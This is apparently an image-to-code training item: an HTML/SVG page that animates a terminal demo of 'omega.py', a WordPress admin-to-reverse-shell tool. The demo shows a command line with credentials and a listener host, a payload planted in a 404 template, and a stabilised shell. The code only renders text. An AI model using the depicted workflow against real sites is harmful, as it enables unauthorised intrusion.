
Recreate the animation shown at these times as an HTML page. Size 782 px wide and 558 px high, loop 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #191c23; }
svg { display: block; }
text {
  font: 500 13.3333px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
  font-variant-ligatures: none;
  white-space: pre;
}
.bold { font-weight: 700; }
</style>
</head>
<body>
<svg id="stage" width="782" height="558" viewBox="0 0 782 558">
  <rect width="782" height="558" fill="#191c23"/>
  <circle cx="530" cy="280" r="200" fill="#1a1e2a"/>
  <path d="M25 25.5H5.5V43.5H17" fill="none" stroke="#4e9a06" stroke-width="1.2"/>
  <circle cx="73" cy="25" r="5.5" fill="#3465a4"/>
  <g id="screen"></g>
  <rect id="cursor" width="8" height="18" fill="#fff"/>
</svg>
<script>
const LOOP = 8000, CELL = 8, LINE = 18, LEFT = 1, TOP = 17, BASELINE = 13;
const WHITE = '#fff', GREEN = '#4e9a06', BLUE = '#3465a4', PURPLE = '#75507b';
const NS = 'http://www.w3.org/2000/svg';
const screen = document.getElementById('screen');
const cursor = document.getElementById('cursor');
const colX = col => LEFT + col * CELL;
const rowY = row => TOP + row * LINE;
const timed = [];

function put(parent, row, col, str, fill = WHITE, bold = false) {
  const el = document.createElementNS(NS, 'text');
  el.setAttribute('x', colX(col));
  el.setAttribute('y', rowY(row) + BASELINE);
  el.setAttribute('fill', fill);
  if (bold) el.setAttribute('class', 'bold');
  el.textContent = str;
  parent.appendChild(el);
}

// Group of output that appears at a given time
function block(at, firstRow, lines) {
  const g = document.createElementNS(NS, 'g');
  const marks = { x: [PURPLE, false], '+': [GREEN, true], '*': [BLUE, true] };
  lines.forEach((line, i) => {
    const row = firstRow + i;
    const tag = /^\[(.)\] (.*)$/.exec(line);
    if (!tag) return put(g, row, 0, line);
    put(g, row, 0, '[');
    put(g, row, 1, tag[1], ...marks[tag[1]]);
    put(g, row, 2, ']');
    put(g, row, 4, tag[2]);
  });
  screen.appendChild(g);
  timed.push({ at, g });
}

// Prompt and command
[
  [0, 3, '(', GREEN], [0, 4, 'nelo', BLUE, true], [0, 10, 'nelo', BLUE, true],
  [0, 14, ')-[', GREEN], [0, 17, '~', WHITE, true], [0, 18, ']', GREEN],
  [1, 2, '$', BLUE, true], [1, 4, 'omega.py', GREEN],
  [1, 13, '-u', PURPLE], [1, 16, 'http://localhost'],
  [1, 33, '-l', PURPLE], [1, 36, 'Headcaretaker'],
  [1, 50, '-p', PURPLE], [1, 53, 'Headcaretaker'],
  [1, 67, '--lhost', PURPLE], [1, 75, '172.18.0.1']
].forEach(run => put(screen, ...run));

const session = 'Trying to get an admin session...';
const drop = 'Dropping payload in the current 404 template...';
const bind = 'Trying to bind to :: on port 8080';
const wait = 'Waiting for connections on :::8080';
const reverse = 'Getting a reverse shell...';
const settle = 'Trying to stabilize the shell...';

block(3100, 2, [
  'Omega - From Wordpress admin to pty',
  '',
  `[x] ${session}`,
  `[x] ${session}: Looks like the site has xmlrpc enabled`
]);
block(3300, 6, [
  `[+] ${session}: Got admin session!`,
  `[x] ${drop}`
]);
block(4200, 8, [
  `[+] ${drop}: Payload ready`,
  `[x] ${reverse}`,
  `[x] ${bind}`,
  `[x] ${bind}: Trying ::`,
  `[+] ${bind}: Done`,
  `[x] ${wait}`,
  `[+] ${wait}: Got connection from ::ffff:172.18.0.3 on port 54702`
]);
block(6700, 15, [
  `[+] ${reverse}: Got a shell!`,
  `[x] ${settle}`
]);
block(6800, 17, [
  `[+] ${settle}: Shell stabilized!`,
  '[*] Switching to interactive mode',
  '',
  'web-proc@629023dfc851:/var/www/html/wp-content/themes/twentytwentyone$'
]);

// Cursor blinks: [on, off, row, column]
const blinks = [
  [300, 900, 1, 85], [1500, 2100, 1, 85], [2300, 2900, 2, 0],
  [3600, 4200, 8, 0], [4800, 5300, 15, 0], [6000, 6600, 15, 0],
  [7200, 7800, 20, 71]
];

function show(el, visible) {
  el.setAttribute('visibility', visible ? 'visible' : 'hidden');
}

function render(t) {
  timed.forEach(({ at, g }) => show(g, t >= at));
  const blink = blinks.find(([on, off]) => t >= on && t < off);
  show(cursor, blink);
  if (blink) {
    cursor.setAttribute('x', colX(blink[3]));
    cursor.setAttribute('y', rowY(blink[2]));
  }
}

const start = performance.now();
function tick() {
  render((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
